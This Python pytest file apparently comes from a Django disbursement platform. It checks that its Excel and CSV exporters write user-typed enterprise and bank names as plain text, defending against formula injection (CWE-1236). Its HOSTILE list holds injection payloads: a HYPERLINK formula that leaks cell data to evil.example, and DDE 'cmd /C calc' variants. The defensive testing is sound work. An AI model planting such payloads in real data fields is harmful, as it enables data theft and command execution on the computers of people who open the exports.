"""Every Excel/CSV export writes what people typed as text: an enterprise that names itself
``=HYPERLINK(…)`` or puts ``=cmd|' /C calc'!A0`` in its bank name gets no formula into the
enterprise export nor into finance's bank file (CWE-1236)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from conftest import PASSWORD
from huiqi.disbursement.models import PaymentBatch
from huiqi.disbursement.services import bank_account_set, batch_create, entitlement_grant

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_batch(make_item: Any, scaled: Any, officer: Any, finance: Any, make_user: Any) -> PaymentBatch:
    item = make_item(budget="10000000")
    for n, text in enumerate(HOSTILE):
        enterprise = scaled(f"{text}企业{n}")
        user = make_user("enterprise", enterprise=enterprise)
        bank_account_set(actor=user, enterprise=enterprise, account_name=text, bank_name=text,
                         number=f"622202123456789{n:04d}")
        entitlement_grant(actor=officer, enterprise=enterprise, item=item, period="2025",
                          amount=Decimal("100000"), source_ref=f"run-{n}")
    batch, skipped = batch_create(actor=finance, item=item)
    assert skipped == []
    return batch


def _client(user: Any) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


def _exports(batch: PaymentBatch, finance: Any, officer: Any, auditor: Any) -> dict[str, bytes]:
    """Every exporter of the platform, through its page, as the people who use it."""
    as_finance, as_officer = _client(finance), _client(officer)
    url = f"/disbursement/batches/{batch.pk}/export/"
    out = {
        "enterprise export (xlsx)": as_officer.get("/enterprises/", {"export": "xlsx"}),
        "payment list (csv)": as_finance.get(url),
        "payment list (xlsx)": as_finance.get(url, {"fmt": "xlsx"}),
        "bank file (xlsx)": as_finance.post(f"{url}?bank=1&fmt=xlsx"),
        "bank file (csv)": as_finance.post(f"{url}?bank=1"),
        "audit log (xlsx)": _client(auditor).get("/audit/", {"format": "xlsx"}),  # names in object columns
    }
    for name, response in out.items():
        assert response.status_code == 200, name
    return {name: response.content for name, response in out.items()}


def test_no_exporter_writes_a_formula_cell_or_a_csv_field_a_spreadsheet_would_evaluate(
        hostile_batch: PaymentBatch, finance: Any, officer: Any, make_user: Any) -> None:
    exports = _exports(hostile_batch, finance, officer, make_user("auditor", region=""))
    seen_text: set[str] = set()
    for name, body in exports.items():
        if name.endswith("(xlsx)"):
            sheet = load_workbook(io.BytesIO(body)).worksheets[0]
            cells = [cell for row in sheet.iter_rows() for cell in row]
            formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
            assert formulas == [], name
            seen_text |= {str(cell.value) for cell in cells}
        else:
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
            starts = [field for row in rows for field in row if field.startswith(DANGEROUS_START)]
            assert starts == [], name
            seen_text |= {field for row in rows for field in row}
    # the text itself still arrives (as text), in the bank file too
    assert any(HOSTILE[1] in text for text in seen_text)
    assert "'=cmd|' /C calc'!A0" in seen_text
